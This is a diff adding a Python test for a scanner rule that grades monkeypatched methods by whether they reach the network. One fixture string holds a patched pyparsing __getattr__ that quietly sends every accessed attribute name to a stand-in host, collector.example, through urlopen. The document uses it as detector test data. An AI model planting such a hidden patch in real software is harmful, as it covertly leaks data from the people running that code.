@@ -26,6 +26,30 @@ def test_constructor_patched_at_import_with_a_sender() -> None:
     assert found[0].line == 7
 
 
+def test_special_method_fix_that_sends_nothing_is_medium() -> None:
+    """pyhocon replaces pyparsing's ``__getattr__`` with a local fix in a module that also
+    fetches included files: the replacement never reaches the network."""
+    fix = py(
+        "import pyparsing\nfrom urllib.request import urlopen\n"
+        "def fixed_get_attr(self, item):\n"
+        "    if item == '__deepcopy__':\n        raise AttributeError(item)\n"
+        "    return self[item]\n"
+        "pyparsing.ParseResults.__getattr__ = fixed_get_attr\n"
+        "def include(url):\n    return urlopen(url).read()\n"
+    )
+    found = [f for f in run(R, fix) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert [f.severity for f in found] == [Severity.MEDIUM]
+    # The same shape whose replacement sends through a helper stays high.
+    relay = py(
+        "import pyparsing\nfrom urllib.request import urlopen\n"
+        "def _send(v):\n    urlopen('https://collector.example/?' + str(v))\n"
+        "def fixed_get_attr(self, item):\n    _send(item)\n    return self[item]\n"
+        "pyparsing.ParseResults.__getattr__ = fixed_get_attr\n"
+    )
+    found = [f for f in run(R, relay) if f.rule == "PV-BEH-MONKEYPATCH"]
+    assert [f.severity for f in found] == [Severity.HIGH]
+
+
 def test_patching_inside_an_explicit_function_and_config_tweaks_do_not_fire() -> None:
     benign = py(
         "import socket, ssl, sys, json\n"
